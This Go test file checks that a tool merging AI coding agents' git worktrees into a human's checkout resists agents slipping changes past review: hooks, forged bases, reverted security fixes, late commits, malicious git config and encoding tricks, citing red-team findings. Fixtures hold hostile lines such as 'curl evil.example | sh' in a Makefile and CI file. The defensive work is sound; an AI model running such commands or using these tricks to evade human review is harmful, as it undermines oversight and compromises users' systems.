package worktree

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestMergeBringsTheBranchIn(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	write(t, filepath.Join(repo, "other.txt"), "main moved on\n")
	commit(t, repo, "main work")
	// A hook an agent could have left in the shared .git: not run.
	marker := filepath.Join(t.TempDir(), "hook-ran")
	write(t, filepath.Join(repo, ".git", "hooks", "pre-merge-commit"), "#!/bin/sh\ntouch "+marker+"\n")
	if err := os.Chmod(filepath.Join(repo, ".git", "hooks", "pre-merge-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	m, err := previewAndMerge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	if m.Into != "main" || m.Commit == "" || m.Files != 1 {
		t.Fatalf("Merge = %+v", m)
	}
	if read(t, filepath.Join(repo, "feature.go")) != "package x\n" {
		t.Fatal("the agent's file is not in the checkout")
	}
	if parents := strings.Fields(run(t, repo, "log", "-1", "--format=%P")); len(parents) != 2 {
		t.Fatalf("not a merge commit: parents %v", parents)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the repository's hook ran")
	}
	// Merged already: nothing to do.
	if m, err := previewAndMerge(tr, ""); err != nil || m.Commit != "" {
		t.Fatalf("second merge: %+v, %v", m, err)
	}
}

func TestMergeChangesNothingOnConflict(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "README"), "agent's words\n")
	commit(t, tr.Path, "agent edits README")
	write(t, filepath.Join(repo, "README"), "human's words\n")
	head := commit(t, repo, "human edits README")
	_, err := previewAndMerge(tr, "")
	if !errors.Is(err, ErrConflict) || !strings.Contains(err.Error(), "README") {
		t.Fatalf("conflict: %v", err)
	}
	if run(t, repo, "rev-parse", "HEAD") != head || run(t, repo, "status", "--porcelain") != "" {
		t.Fatal("the checkout changed")
	}
	if read(t, filepath.Join(repo, "README")) != "human's words\n" {
		t.Fatal("README changed")
	}
}

func TestMergeRefusesADirtyOrDetachedCheckout(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	write(t, filepath.Join(repo, "README"), "unsaved\n")
	if _, err := previewAndMerge(tr, ""); !errors.Is(err, ErrDirtyCheckout) {
		t.Fatalf("dirty: %v", err)
	}
	run(t, repo, "checkout", "-q", "--", "README")
	run(t, repo, "checkout", "-q", "--detach")
	if _, err := previewAndMerge(tr, ""); !errors.Is(err, ErrDetachedHead) {
		t.Fatalf("detached: %v", err)
	}
}

// The commit the human was shown is merged, not what the branch holds by
// the time they said yes: a commit the agent adds meanwhile stays out.
func TestMergeTakesTheCommitShown(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "docs.md"), "docs\n")
	commit(t, tr.Path, "docs")
	c, err := Diff(tr)
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(tr.Path, "Makefile"), "all:; curl evil.example | sh\n")
	commit(t, tr.Path, "while the human read the prompt")
	m, err := previewAndMerge(tr, c.Head)
	if err != nil || m.Files != 1 {
		t.Fatalf("Merge = %+v, %v", m, err)
	}
	if _, err := os.Stat(filepath.Join(repo, "Makefile")); err == nil {
		t.Fatal("the commit made after the human looked was merged")
	}
	if _, err := previewAndMerge(tr, "not-a-commit"); err == nil {
		t.Fatal("a bad commit id merged")
	}
}

// The user's own git config, which agents can write, runs nothing when
// teamlead makes a worktree or merges: a smudge filter given to every file
// through an attributes file, gpg.program with commit signing, an
// fsmonitor and a credential helper set there are not read; the user's name
// and e-mail are (red team 9a, finding 2, through ~/.gitconfig).
func TestUserConfigRunsNothing(t *testing.T) {
	repo := newRepo(t)
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	prog := filepath.Join(dir, "prog.sh")
	write(t, prog, "#!/bin/sh\necho \"$0 $*\" >> "+marker+"\ncat\n")
	if err := os.Chmod(prog, 0o755); err != nil {
		t.Fatal(err)
	}
	attrs := filepath.Join(dir, "attributes")
	write(t, attrs, "* filter=g diff=g\n")
	global := filepath.Join(dir, "gitconfig")
	write(t, global, "[user]\n\tname = Human Person\n\temail = human@example.com\n"+
		"[core]\n\tattributesFile = "+attrs+"\n\tfsmonitor = "+prog+"\n"+
		"[filter \"g\"]\n\tsmudge = "+prog+" smudge\n\tclean = "+prog+" clean\n"+
		"[diff \"g\"]\n\ttextconv = "+prog+" textconv\n"+
		"[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = "+prog+"\n"+
		"[credential]\n\thelper = !"+prog+" credential\n")
	t.Setenv("GIT_CONFIG_GLOBAL", global)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	// The commits stand for the agent's and the human's own git.
	t.Setenv("GIT_CONFIG_GLOBAL", os.DevNull)
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	write(t, filepath.Join(repo, "other.txt"), "main moved on\n")
	commit(t, repo, "main work")
	t.Setenv("GIT_CONFIG_GLOBAL", global)
	for _, k := range []string{"GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"} {
		t.Setenv(k, "") // restored after the test
		os.Unsetenv(k)  // the name comes from the user's config
	}
	if _, err := Status(tr); err != nil {
		t.Fatal(err)
	}
	m, err := previewAndMerge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(marker); err == nil {
		t.Fatalf("the user's config ran a program in teamlead's git:\n%s", b)
	}
	if who := run(t, repo, "log", "-1", "--format=%an <%ae> %cn", m.Commit); who != "Human Person <human@example.com> Human Person" {
		t.Errorf("merge commit by %q", who)
	}
}

// Of the user's config only settings that run nothing are taken: not
// protocol.ext.allow nor protocol.allow, with which a submodule URL an
// agent wrote ran its command in the console (red team 10a, finding 1).
func TestHarmlessUserKeys(t *testing.T) {
	for key, want := range map[string]bool{
		"user.name": true, "url.git@github.com:.insteadof": true, "protocol.file.allow": true, "protocol.https.allow": true,
		"protocol.ext.allow": false, "protocol.fd.allow": false, "protocol.allow": false, "protocol.EXT.allow": false,
		"filter.lfs.smudge": false, "core.sshcommand": false, "credential.helper": false, "gpg.program": false,
		"include.path": false, "core.fsmonitor": false, "url.x.insteadof.extra": false,
	} {
		if got := harmlessUserKey(key); got != want {
			t.Errorf("%s: %v, want %v", key, got, want)
		}
	}
}

// The base recorded in the worktree's git dir, which the agent writes, is
// not taken when it is not in the user's history: set to the agent's own
// last commit, it hid every commit from the diff the human merges on (red
// team 10a, finding 17).
func TestForgedBaseIsNotTaken(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "ci.yml"), "run: curl evil | sh\n")
	head := commit(t, tr.Path, "sneak a workflow in")
	write(t, filepath.Join(tr.GitDir, "teamlead-base"), head+"\n")
	again := ensure(t, Spec{Repo: repo, Agent: "dev"})
	c, err := Diff(again)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, f := range c.Committed.Files {
		found = found || f.Path == "ci.yml"
	}
	if !found {
		t.Fatalf("the agent's commit is hidden from the diff: base %s, %+v", c.Base, c.Committed)
	}
}

// previewAndMerge merges as teamlead merge does: the preview, then it.
func previewAndMerge(tr Tree, at string) (Merged, error) {
	p, err := PreviewMerge(tr, at)
	if err != nil {
		return Merged{}, err
	}
	return Merge(tr, p)
}

// Red team 12a, finding 3: the human fixes scripts/check.sh on main after
// the worktree was made; the agent merges main, sets check.sh back to its
// base content and edits README. The agent's diff since its base shows
// README only; the merge preview shows check.sh too, names it, and the
// merge commits exactly the tree shown.
func TestMergeShowsWhatItUndoes(t *testing.T) {
	repo := newRepo(t)
	write(t, filepath.Join(repo, "scripts", "check.sh"), "#!/bin/sh\necho ok\n")
	write(t, filepath.Join(repo, "key.pem"), "leaked\n")
	commit(t, repo, "check script")
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(repo, "scripts", "check.sh"), "#!/bin/sh\nset -eu # SECURITY: fail closed\necho ok\n")
	run(t, repo, "rm", "-q", "key.pem")
	commit(t, repo, "check.sh: fail closed (security fix); drop the leaked key")

	run(t, tr.Path, "merge", "-q", "--no-edit", "main")
	write(t, filepath.Join(tr.Path, "scripts", "check.sh"), "#!/bin/sh\necho ok\n")
	write(t, filepath.Join(tr.Path, "key.pem"), "leaked\n")
	write(t, filepath.Join(tr.Path, "README"), "hello\nwording\n")
	commit(t, tr.Path, "README: wording")

	c, err := Diff(tr)
	if err != nil {
		t.Fatal(err)
	}
	p := c.Merge
	if p.Err != "" || p.Into != "main" || p.At != c.Head || p.Head != run(t, repo, "rev-parse", "HEAD") {
		t.Fatalf("preview %+v", p)
	}
	names := func(fs []File) []string {
		var out []string
		for _, f := range fs {
			out = append(out, f.Path)
		}
		slices.Sort(out)
		return out
	}
	if got := names(c.Committed.Files); !slices.Equal(got, []string{"README"}) {
		t.Fatalf("the agent's diff since its base: %v", got)
	}
	want := []string{"README", "key.pem", "scripts/check.sh"}
	if got := names(p.Changes.Files); !slices.Equal(got, want) {
		t.Fatalf("the merge's files: %v, want %v", got, want)
	}
	if !strings.Contains(p.Changes.Stat(), "scripts/check.sh") || !strings.Contains(p.Changes.Patch, "-set -eu # SECURITY") {
		t.Fatalf("the merge's stat and patch hide the revert:\n%s\n%s", p.Changes.Stat(), p.Changes.Patch)
	}
	var unseen []string
	for _, u := range p.Unseen {
		unseen = append(unseen, u.Path)
		if !strings.Contains(u.Why, u.Path) || !strings.Contains(u.Why, "main changed it after the worktree was made") {
			t.Errorf("unseen %+v", u)
		}
	}
	if slices.Sort(unseen); !slices.Equal(unseen, []string{"key.pem", "scripts/check.sh"}) {
		t.Fatalf("unseen %v", unseen)
	}
	if p.Same(c.Committed) {
		t.Fatal("the merge reads as the committed diff")
	}

	m, err := Merge(tr, p)
	if err != nil {
		t.Fatal(err)
	}
	if got := run(t, repo, "rev-parse", "HEAD^{tree}"); got != p.Tree {
		t.Fatalf("merged tree %s, shown %s", got, p.Tree)
	}
	if got := run(t, repo, "rev-parse", "HEAD"); got != m.Commit {
		t.Fatalf("HEAD %s, merge %s", got, m.Commit)
	}
	if parents := run(t, repo, "log", "-1", "--format=%P"); parents != p.Head+" "+p.At {
		t.Fatalf("parents %q, want %s %s", parents, p.Head, p.At)
	}
	if msg := run(t, repo, "log", "-1", "--format=%s"); msg != fmt.Sprintf("Merge teamlead/dev at %.12s (agent dev's work) into main", p.At) {
		t.Fatalf("message %q", msg)
	}
	if got := strings.Fields(run(t, repo, "diff", "--name-only", "HEAD^1", "HEAD")); !slices.Equal(got, want) || m.Files != 3 {
		t.Fatalf("the merge changed %v (%d), shown %v", got, m.Files, want)
	}
	if run(t, repo, "status", "--porcelain") != "" || read(t, filepath.Join(repo, "scripts", "check.sh")) != "#!/bin/sh\necho ok\n" {
		t.Fatal("the checkout is not the merge")
	}
}

// A conflict shows in the preview, names its files, and Merge refuses it
// changing nothing.
func TestMergePreviewNamesConflicts(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "README"), "agent's words\n")
	write(t, filepath.Join(tr.Path, "sub", "dir", "code.go"), "package agent\n")
	commit(t, tr.Path, "agent edits")
	write(t, filepath.Join(repo, "README"), "human's words\n")
	write(t, filepath.Join(repo, "sub", "dir", "code.go"), "package human\n")
	head := commit(t, repo, "human edits")
	c, err := Diff(tr)
	if err != nil {
		t.Fatal(err)
	}
	p := c.Merge
	if !slices.Equal(p.Conflicts, []string{"README", "sub/dir/code.go"}) || p.Tree != "" || len(p.Changes.Files) != 0 {
		t.Fatalf("preview %+v", p)
	}
	_, err = Merge(tr, p)
	if !errors.Is(err, ErrConflict) || !strings.Contains(err.Error(), "README, sub/dir/code.go") {
		t.Fatalf("conflict: %v", err)
	}
	if run(t, repo, "rev-parse", "HEAD") != head || run(t, repo, "status", "--porcelain") != "" {
		t.Fatal("the checkout changed")
	}
}

// The human's branch moving between the preview and the yes (a commit,
// or another branch checked out) refuses the merge and changes nothing.
func TestMergeRefusesWhenHeadMoved(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
	commit(t, tr.Path, "feature")
	p, err := PreviewMerge(tr, "")
	if err != nil || p.Tree == "" {
		t.Fatalf("preview %+v, %v", p, err)
	}
	write(t, filepath.Join(repo, "scripts", "check.sh"), "set -eu\n")
	head := commit(t, repo, "the human's fix, after the preview")
	_, err = Merge(tr, p)
	if !errors.Is(err, ErrHeadMoved) || !strings.Contains(err.Error(), "nothing was changed") {
		t.Fatalf("merge after HEAD moved: %v", err)
	}
	if run(t, repo, "rev-parse", "HEAD") != head || run(t, repo, "status", "--porcelain") != "" {
		t.Fatal("the checkout changed")
	}
	if _, err := os.Stat(filepath.Join(repo, "feature.go")); err == nil {
		t.Fatal("the branch was merged")
	}
	// Another branch at the same commit: refused too.
	p, err = PreviewMerge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	run(t, repo, "switch", "-q", "-c", "other")
	if _, err := Merge(tr, p); !errors.Is(err, ErrHeadMoved) {
		t.Fatalf("merge on another branch: %v", err)
	}
	if run(t, repo, "rev-parse", "HEAD") != head {
		t.Fatal("the checkout changed")
	}
}

func TestVersionAtLeast(t *testing.T) {
	for v, want := range map[string]bool{
		"git version 2.39.5": true, "git version 2.38.0": true, "git version 3.0": true,
		"git version 2.37.1 (Apple Git-136)": false, "git version 1.99": false, "nonsense": false,
	} {
		if got := versionAtLeast(v, 2, 38); got != want {
			t.Errorf("%q: %v, want %v", v, got, want)
		}
	}
}

// A merge that changes .gitattributes says so: the diff shows what is
// stored, the attributes decide what the checkout writes (red team 13d,
// finding 2: a Makefile stored as EBCDIC mojibake, checked out as ASCII
// by working-tree-encoding, ran as a command).
func TestMergeNamesAttributeChanges(t *testing.T) {
	repo := newRepo(t)
	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
	write(t, filepath.Join(tr.Path, ".gitattributes"), "Makefile working-tree-encoding=IBM037\n")
	commit(t, tr.Path, "attributes")
	p, err := PreviewMerge(tr, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Unseen) != 1 || p.Unseen[0].Path != ".gitattributes" || !strings.Contains(p.Unseen[0].Why, "working-tree-encoding") {
		t.Fatalf("unseen: %+v", p.Unseen)
	}
}
